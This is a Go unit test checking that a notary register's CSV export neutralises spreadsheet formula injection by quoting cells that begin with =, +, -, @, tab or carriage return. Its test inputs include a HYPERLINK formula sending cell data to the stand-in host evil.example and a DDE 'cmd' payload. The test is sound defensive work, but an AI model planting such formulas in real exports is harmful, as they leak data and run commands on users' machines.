package acts_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/google/uuid"

	"github.com/chamber-court/chamber/acts"
)

// TestRegisterCSVNeutralisesFormulas: a register cell a spreadsheet would
// run as a formula (=, +, -, @, tab or carriage return first, also after
// spaces) is exported as text, prefixed with a quote; other cells as they are.
func TestRegisterCSVNeutralisesFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)", "'@SUM(1+1)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"  =1+1", "'  =1+1"},
		{"EUR 45.00", "EUR 45.00"},
		{"Mari Tamm", "Mari Tamm"},
		{"a=b", "a=b"},
		{"", ""},
	}
	for _, tc := range cases {
		e := acts.RegisterEntry{
			ID: uuid.New(), Number: "2026/000001", SessionID: uuid.New(), RecordedAt: time.Now(), SealedAt: time.Now(),
			ActType: "other", Title: "t", Description: tc.in, Notary: tc.in, Fee: tc.in,
			Document:   acts.FinalDocument{Name: tc.in},
			Principals: []acts.RegisterPrincipal{{ParticipantID: uuid.New(), Name: tc.in, Address: tc.in}},
		}
		var buf bytes.Buffer
		if err := acts.WriteCSV(&buf, []acts.RegisterEntry{e}); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) != 2 {
			t.Fatalf("%d rows", len(rows))
		}
		head, row := rows[0], rows[1]
		for i, col := range head {
			switch col {
			case "description", "document_name", "principal_name", "principal_address", "notary", "fee":
				if row[i] != tc.want {
					t.Errorf("%s of %q exported as %q, want %q", col, tc.in, row[i], tc.want)
				}
			case "number":
				if row[i] != "2026/000001" {
					t.Errorf("number exported as %q", row[i])
				}
			}
		}
	}
}
